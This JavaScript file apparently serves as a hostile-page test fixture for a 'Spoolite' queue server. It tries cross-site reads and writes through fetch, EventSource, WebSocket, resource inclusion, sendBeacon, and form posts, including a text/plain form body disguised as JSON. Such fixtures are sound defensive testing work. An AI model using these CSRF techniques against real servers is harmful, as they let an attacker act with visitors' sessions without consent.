// Runs in a page that somebody visits: tries to read from a Spoolite server, and to change something there.

/** What the page has found out, each as the way and the text. */
const found = [];

const API = '/api/queue';

const body = JSON.stringify({ type: 'intruder' });

/** The first task, cancelled; a new one; a session. */
const WRITES = [
  ['POST', `${API}/enqueue`, body],
  ['POST', `${API}/tasks/1/cancel`, ''],
  ['POST', `${API}/tasks/2/retry`, ''],
  ['POST', '/api/session', JSON.stringify({ key: 'spool_nonsense' })],
  ['DELETE', '/api/session', undefined],
];

const READS = [`${API}/tasks`, `${API}/tasks/1`, `${API}/changes?cursor=0`, '/api/audit'];

const later = (milliseconds) => new Promise((resolve) => setTimeout(resolve, milliseconds));

async function note(way, reading) {
  try {
    const text = await Promise.race([reading(), later(3_000)]);
    if (text) found.push(`${way}: ${text}`);
  } catch {
    // Refused.
  }
}

async function byFetch(target) {
  for (const credentials of ['include', 'omit']) {
    for (const mode of ['cors', 'no-cors']) {
      for (const path of READS)
        await note(`fetch ${mode}`, async () => (await fetch(target + path, { mode, credentials })).text());
      for (const [method, path, content] of WRITES) {
        for (const type of ['application/json', 'text/plain', 'application/x-www-form-urlencoded']) {
          const init = { method, mode, credentials, body: content, headers: { 'Content-Type': type } };
          await note(`fetch ${method} ${mode} ${type}`, async () =>
            (await fetch(target + path, init)).text(),
          );
        }
      }
    }
  }
}

const byEventSource = (target) =>
  note('EventSource', () => {
    const source = new EventSource(`${target}${API}/events?cursor=0`, { withCredentials: true });
    return new Promise((resolve) => {
      source.addEventListener('task', ({ data }) => resolve(data));
      source.addEventListener('error', () => resolve(''));
    }).finally(() => source.close());
  });

const byWebSocket = (target) =>
  note('WebSocket', () => {
    const socket = new WebSocket(`${target.replace('http', 'ws')}${API}/events?cursor=0`);
    return new Promise((resolve) => {
      socket.addEventListener('open', () => resolve('open'));
      socket.addEventListener('error', () => resolve(''));
    }).finally(() => socket.close());
  });

/** An element that refers to the path; what can be seen of it once it is there. */
function include(tag, attribute, url, seen) {
  const element = document.createElement(tag);
  if (tag === 'link') element.rel = 'stylesheet';
  element[attribute] = url;
  document.body.append(element);
  return new Promise((resolve) => {
    element.addEventListener('load', () => resolve(seen(element)));
    element.addEventListener('error', () => resolve(''));
  });
}

async function byInclusion(target) {
  const url = `${target}${API}/tasks`;
  const loaded = () => 'loaded';
  await note('img', () => include('img', 'src', url, loaded));
  await note('script', () => include('script', 'src', url, loaded));
  await note('link', () => include('link', 'href', url, loaded));
  await note('iframe', () =>
    include('iframe', 'src', url, (frame) => frame.contentDocument?.body?.textContent ?? ''),
  );
}

async function byBeacon(target) {
  const contents = [body, new Blob([body], { type: 'application/json' }), new URLSearchParams({ type: 'x' })];
  for (const content of contents) {
    navigator.sendBeacon(`${target}${API}/enqueue`, content);
    navigator.sendBeacon(`${target}${API}/tasks/1/cancel`, content);
  }
}

/** A form whose content looks like JSON to who does not look at its type. */
function formTo(url, enctype, target) {
  const form = document.createElement('form');
  Object.assign(form, { method: 'post', action: url, enctype, target });
  const field = document.createElement('input');
  Object.assign(field, { name: '{"type":"intruder","payload":{"a":"', value: '"}}' });
  form.append(field);
  document.body.append(form);
  return form;
}

async function byForm(target) {
  for (const enctype of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']) {
    for (const path of [`${API}/enqueue`, `${API}/tasks/1/cancel`, '/api/session']) {
      const frame = document.createElement('iframe');
      frame.name = `frame-${enctype}-${path}`;
      document.body.append(frame);
      const answered = new Promise((resolve) => frame.addEventListener('load', resolve, { once: true }));
      formTo(target + path, enctype, frame.name).submit();
      await Promise.race([answered, later(2_000)]);
      await note(`form ${enctype}`, async () => frame.contentDocument?.body?.textContent);
    }
  }
}

/** All of it; resolves to what was found out. */
globalThis.attack = async (target) => {
  await byFetch(target);
  await byEventSource(target);
  await byWebSocket(target);
  await byInclusion(target);
  await byBeacon(target);
  await byForm(target);
  return found;
};

/** Leaves the page for the answer to a post. */
globalThis.attackByLeaving = (target) => formTo(`${target}${API}/enqueue`, 'text/plain', '_top').submit();
